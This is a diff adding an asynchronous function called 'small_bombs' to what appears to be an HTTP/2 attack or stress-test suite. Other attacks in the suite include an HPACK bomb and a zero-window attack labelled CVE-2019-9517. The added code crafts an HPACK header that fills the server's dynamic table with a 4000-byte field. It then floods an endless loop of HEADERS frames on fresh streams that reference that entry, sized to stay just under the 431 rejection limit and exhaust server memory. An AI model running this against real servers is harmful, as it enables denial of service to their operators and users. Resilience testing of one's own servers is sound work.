@@ -136,6 +136,21 @@ async def hpack_bomb(peer):
 
 
 @attack
+async def small_bombs(peer):
+    """As before, but each is answered 431: a list is as large as it may be for that, and so is the number of its fields."""
+    field = b'\x40\x06x-bomb\x7f\xa1\x1e' + b'b' * 4000
+    usual = b'\x82\x86\x84\x01\x04test'
+    bombs = [usual + b'\xbe' * 60, usual + b'\x90' * 390]
+    await peer.send(h2.frame(h2.HEADERS, 5, 1, usual + field))
+    number = 3
+    while True:
+        streams = range(number, number + 200, 2)
+        await peer.send(b''.join(h2.frame(h2.HEADERS, 5, stream, bombs[stream // 2 % 2]) for stream in streams))
+        number += 200
+        await asyncio.sleep(0)
+
+
+@attack
 async def zero_windows(peer):
     """CVE-2019-9517: large responses are asked for, and no window is ever opened."""
     await peer.send(h2.settings({h2.INITIAL_WINDOW_SIZE: 0}))
